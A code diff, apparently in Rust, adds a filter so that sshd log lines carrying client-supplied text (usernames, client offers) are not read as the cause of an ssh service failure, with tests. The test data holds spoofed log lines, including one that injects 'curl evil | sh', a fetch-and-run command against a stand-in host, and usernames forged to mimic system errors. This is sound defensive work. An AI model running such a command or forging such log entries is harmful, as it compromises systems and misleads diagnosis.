@@ -69,6 +69,14 @@ pub(super) fn lines(units: &[&str], view: &View<'_>) -> Result<Vec<String>, Halt
     Ok(last_start(&text(units, view)?).into_iter().map(str::to_owned).collect())
 }
 
+/// Words of whoever came by may stand in it: the name that they gave, their program's. Such a line tells no cause of ours.
+pub(super) fn of_a_client(log: &str) -> bool {
+    static CLIENT: LazyLock<Option<Regex>> = LazyLock::new(|| {
+        Regex::new(r" from |[Uu]ser \S+ .*port \d+| port \d+(?: \[|:|\s*$)|[Ii]nvalid user|illegal user").ok()
+    });
+    CLIENT.as_ref().is_none_or(|r| r.is_match(log))
+}
+
 fn text(units: &[&str], view: &View<'_>) -> Result<String, Halt> {
     let names: Option<Vec<String>> = units.iter().map(|u| Some(format!("rb_said {} 40", sh_quote(u)?))).collect();
     let a = view.script(&format!("{}; :", names.unwrap_or_default().join("; ")), false, &[])?;
@@ -83,7 +91,8 @@ fn last_start(text: &str) -> Vec<&str> {
 }
 
 fn read(text: &str) -> Said {
-    let lines = last_start(text);
+    let mut lines = last_start(text);
+    lines.retain(|l| !of_a_client(l));
     let telling = TABLE.iter().find_map(|(pattern, said)| {
         let found = lines.iter().rev().find_map(|l| pattern.captures(l))?;
         let mut text = String::new();
@@ -135,6 +144,39 @@ mod tests {
         assert_eq!(s.why.as_deref(), Some("port 22 is taken by something else"));
         assert_eq!(s.last.len(), 3);
         assert_eq!(s.last[2], "fatal: Cannot bind any address.");
+    }
+
+    #[test]
+    fn what_strangers_say_is_no_complaint() {
+        for line in [
+            "Connection closed by invalid user Out of memory 10.77.0.1 port 4242 [preauth]",
+            "Invalid user Out of memory from 10.77.0.1 port 4242",
+            "Failed password for invalid user Too many open files from 10.77.0.1 port 4242 ssh2",
+            "banner exchange: Connection from 10.77.0.1 port 4242: invalid format",
+            "Unable to negotiate with 10.77.0.1 port 4242: no matching host key type found. Their offer: Out of memory [preauth]",
+        ] {
+            assert!(of_a_client(line), "{line}");
+        }
+        for line in [
+            "error: Bind to port 22 on 0.0.0.0 failed: Permission denied.",
+            "fatal: fork of unprivileged child failed: Cannot allocate memory",
+            "error: reexec socketpair: Too many open files",
+            "ssh.service: Failed at step USER spawning /usr/sbin/sshd: No such process",
+            "fatal: chroot(\"/run/sshd\"): Operation not permitted [preauth]",
+            "ssh.service: A process of this unit has been killed by the OOM killer.",
+        ] {
+            assert!(!of_a_client(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn what_a_client_says_is_no_cause() {
+        for said in [
+            "Invalid user No space left on device from 192.0.2.66 port 5",
+            "Received disconnect from 192.0.2.66 port 5:11: /etc/ssh/sshd_config: line 3: curl evil | sh [preauth]",
+        ] {
+            assert_eq!(read(&format!("Starting ssh.service - x...\n{said}\n")), Said::default(), "{said}");
+        }
     }
 
     #[test]
